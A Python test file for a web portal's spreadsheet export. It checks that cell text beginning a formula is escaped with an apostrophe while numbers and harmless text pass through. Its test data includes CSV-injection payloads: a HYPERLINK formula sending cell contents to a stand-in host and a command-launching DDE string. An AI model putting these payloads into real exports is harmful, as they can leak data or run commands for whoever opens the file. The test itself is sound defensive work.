"""No cell of ours begins a formula; numbers stay numbers."""

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from portal.ui.spreadsheets.formulas import escaped, safe_row, unescaped
from portal.ui.spreadsheets.reading import read_lines
from portal.ui.spreadsheets.writing import as_csv

FORMULAS = [
    '=HYPERLINK("https://evil.example/?"&A1)',
    "=1+1",
    "+358401234567",
    "-cmd|' /C calc'!A0",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "\n=1",
    "  =1",
    "\u00a0=1",
    "\ufeff=1",
    "\u200b=1",
    "＝1+1",
    "＋1",
    "＠x",
    "-",
    "-1+1",
    "--1",
    "-1;2",
]
HARMLESS = ["", "a=1", "Äyräs", "-5", "-12,5", "-12.50", "12", "0.5", "'", "a\t=1", "040 123"]


@pytest.mark.parametrize("text", FORMULAS)
def test_what_begins_a_formula_is_marked_as_text(text: str) -> None:
    assert escaped(text) == f"'{text}"
    assert unescaped(escaped(text)) == text


@pytest.mark.parametrize("text", HARMLESS)
def test_all_else_is_left_as_it_is(text: str) -> None:
    assert escaped(text) == text
    assert unescaped(text) == text


def test_values_that_are_no_text_are_left_as_they_are() -> None:
    assert safe_row([-5, 1.5, None, True, "-x"]) == [-5, 1.5, None, True, "'-x"]


@given(st.text())
def test_no_text_at_all_comes_out_as_a_formula(text: str) -> None:
    written = escaped(text)
    begins = written.lstrip("\ufeff\u200b\u200c\u200d\u200e\u200f\u2060\x00").lstrip()
    assert not begins.startswith(("=", "+", "@"))
    assert not written.startswith(("\t", "\r", "\n"))
    if begins.startswith("-"):
        float(begins.replace(",", "."))
    if not text.startswith("'"):
        assert unescaped(written) == text


def test_a_written_list_is_read_again_as_it_was() -> None:
    rows = [[text.strip() for text in FORMULAS[:6]], ["a;b", 'say "x"', "-5", "1", "ö", "x"]]
    content = as_csv(["=name", "b", "c", "d", "e", "f"], rows)
    lines = list(csv.reader(io.StringIO(content.decode("utf-8-sig")), delimiter=";"))
    assert lines[0][0] == "'=name"
    assert lines[1][0].startswith("'=")
    assert list(read_lines(content))[1:] == rows
